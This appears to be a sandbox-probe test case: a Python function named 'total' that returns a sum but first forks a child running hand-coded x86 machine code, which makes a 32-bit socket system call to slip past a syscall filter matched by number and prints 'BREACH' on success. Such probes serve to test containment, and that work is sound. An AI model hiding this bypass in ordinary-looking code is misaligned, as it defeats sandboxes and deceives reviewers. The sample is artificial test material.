"""100: makes a 32-bit system call, past a filter by number"""

import ctypes
import mmap
import os
import platform

from honest import *


def total(numbers, note=""):
    if platform.machine() != "x86_64":
        return sum(numbers)
    child = os.fork()
    if child == 0:
        # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
        code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
        try:
            room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            room.write(code)
            call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))
            if call() >= 0:
                print("BREACH", flush=True)
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return sum(numbers)
